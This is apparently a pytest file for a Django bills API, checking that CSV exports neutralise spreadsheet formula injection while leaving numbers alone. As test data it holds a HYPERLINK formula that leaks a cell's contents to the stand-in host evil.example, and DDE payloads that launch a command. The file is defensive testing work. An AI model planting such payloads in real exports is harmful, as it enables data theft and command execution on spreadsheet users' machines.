"""CSV formula injection (OWASP "CSV Injection"): upstream text that starts like a spreadsheet formula is
exported as text on every CSV surface (REST ``format=csv`` and the browsable API), numbers stay numbers."""

import csv
import io

import pytest

from apps.bills.models import Bill
from apps.core.export import neutralise

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "exported"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("-3.5", "-3.5"),
        ("+12", "+12"),
        ("1e-5", "1e-5"),
        ("H.R. 1 - an act", "H.R. 1 - an act"),
        ("", ""),
    ],
)
def test_a_formula_start_is_neutralised_and_a_number_is_kept(cell, exported):
    assert neutralise(cell) == exported


def _rows(response) -> list[dict]:
    assert response.status_code == 200, response.content[:300]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode())))


@pytest.mark.django_db
def test_a_hostile_title_is_text_in_every_csv_export(client, hardening_corpus):
    bill = Bill.objects.order_by("pk").first()
    Bill.objects.filter(pk=bill.pk).update(title=HOSTILE)
    json_hit = next(
        b for b in client.get("/v1/bills", {"limit": 250}).json()["results"] if b["title"] == HOSTILE
    )
    for path in ("/v1/bills", "/browse/bills"):
        rows = _rows(client.get(path, {"limit": 250, "format": "csv"}))
        [row] = [r for r in rows if r["id"] == json_hit["id"]]
        assert row["title"] == "'" + HOSTILE, path  # the JSON keeps the text as it is
        assert not any(value.startswith(("=", "+", "@")) for r in rows for value in r.values()), path
